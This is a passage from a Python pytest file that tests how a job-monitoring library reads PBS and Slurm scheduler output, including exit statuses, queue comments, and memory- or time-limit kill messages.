        '{"pbs_version": "23", "Jobs": []}',
        '{"pbs_version": "23", "Jobs": {"1.a": {"Job_Name": "x"}}}',
        '{"pbs_version": "23", "Jobs": {"1.a": "Q"}}',
    ],
)
def test_parse_qstat_refuses_what_it_cannot_read(output):
    with pytest.raises(ValueError, match="qstat"):
        pbs.parse_qstat_json(output)


def test_parse_qstat_tolerates_raw_control_characters_in_values():
    output = '{"pbs_version":"19","Jobs":{"1.a":{"job_state":"R","comment":"a\tb"}}}'
    assert pbs.parse_qstat_json(output)["1.a"].state == "running"


@pytest.mark.parametrize(
    ("job", "kind", "words"),
    [
        ({"job_state": "F", "Exit_status": -27}, "out_of_memory", "JOB_EXEC_KILL_MEM"),
        ({"job_state": "F", "Exit_status": -26}, "out_of_memory", "JOB_EXEC_KILL_VMEM"),
        ({"job_state": "F", "Exit_status": -25}, "failed", "more CPUs"),
        ({"job_state": "F", "Exit_status": "-29"}, "timeout", "JOB_EXEC_KILL_WALLTIME"),
        ({"job_state": "F", "Exit_status": -20}, "node_fail", "JOB_EXEC_RERUN_MS_FAIL"),
        ({"job_state": "F", "Exit_status": -99}, "failed", "exit status -99"),
        ({"job_state": "X", "Exit_status": 0}, "completed", "completed"),
        ({"job_state": "F", "Exit_status": 265}, "failed", "signal 9 (SIGKILL)"),
        ({"job_state": "F", "Exit_status": 267, "stime": "x"}, "failed", "signal 11 (SIGSEGV)"),
        (
            # An older PBS kills a job over its walltime with SIGTERM: the time it used tells.
            {
                "job_state": "F",
                "Exit_status": 271,
                "Resource_List": {"walltime": "00:02:00"},
                "resources_used": {"walltime": "00:02:05"},
            },
            "timeout",
            "its time limit (00:02:00) was reached",
        ),
    ],
)
def test_pbs_ending_of(job, kind, words):
    ending = pbs.ending_of(job)
    assert ending.kind == kind
    assert words in ending.message


@pytest.mark.parametrize(
    "job",
    [
        {},
        {"job_state": "R"},
        {"job_state": "E", "Exit_status": 0},  # still exiting: the outcome may change
        {"job_state": "Q"},
        {"job_state": "F", "Exit_status": "garbage", "stime": "x"},
        {"job_state": "F", "stime": "x"},
    ],
)
def test_a_job_pbs_has_not_ended_is_never_taken_as_finished(job):
    assert pbs.ending_of(job).kind == "unknown"


@pytest.mark.parametrize(
    ("comment", "words"),
    [
        ("", "waiting for the scheduler to look at it"),
        (
            "Not Running: User has reached queue workq running job limit.",
            "waiting: a limit is reached (User has reached queue workq running job limit.)",
        ),
        (
            "Can Never Run: Insufficient amount of queue resource: ncpus",
            "can never start: Insufficient amount of queue resource: ncpus",
        ),
        (
            "job held, too many failed attempts to run",
            "held (job held, too many failed attempts to run)",
        ),
        ("Not Running: Something new", "Something new"),
    ],
)
def test_pbs_reason_in_words(comment, words):
    assert pbs.reason_in_words(comment) == words


# What Slurm itself writes about a job (the batch script's stderr, slurm.err) -----------

#: slurmstepd's words on the test cluster (OverMemoryKill), and a cgroup's, as Slurm
#: 22.05 writes them.
ACCOUNTING_KILL = (
    "slurmstepd-localhost: error: StepId=571.batch exceeded memory limit "
    "(329895936 > 52428800), being killed\n"
    "slurmstepd-localhost: error: Exceeded job memory limit\n"
    "slurmstepd-localhost: error: *** JOB 571 ON localhost CANCELLED AT 2026-12-04T19:14:08 ***\n"
)
CGROUP_KILL = (
    "slurmstepd: error: Detected 1 oom-kill event(s) in StepId=88.batch. Some of your "
    "processes may have been killed by the cgroup out-of-memory handler.\n"
)


@pytest.mark.parametrize("messages", [ACCOUNTING_KILL, CGROUP_KILL])
def test_a_job_killed_for_its_memory_says_so_whatever_its_state_said(messages):
    killed = Ending("failed", "Slurm ended the job: it was killed by signal 9 (SIGKILL).")
    assert slurm.ending_from_messages(killed, messages, "50 MB") == Ending(
        "out_of_memory", "Slurm ended the job: it used more memory than it asked for (50 MB)."
    )
    assert slurm.ending_from_messages(killed, messages).message.endswith("asked for.")


def test_slurm_s_messages_change_nothing_else():
    killed = Ending("failed", "Slurm ended the job: it was killed by signal 9 (SIGKILL).")
    timeout = Ending("timeout", "Slurm ended the job: its time limit (00:01:00) was reached.")
    time_limit = "slurmstepd: error: *** JOB 9 ON n1 CANCELLED AT 2026 DUE TO TIME LIMIT ***\n"
    assert slurm.ending_from_messages(killed, "") == killed
    assert slurm.ending_from_messages(killed, time_limit) == killed
    # The state's own account stands where it is exact.
    assert slurm.ending_from_messages(timeout, ACCOUNTING_KILL) == timeout
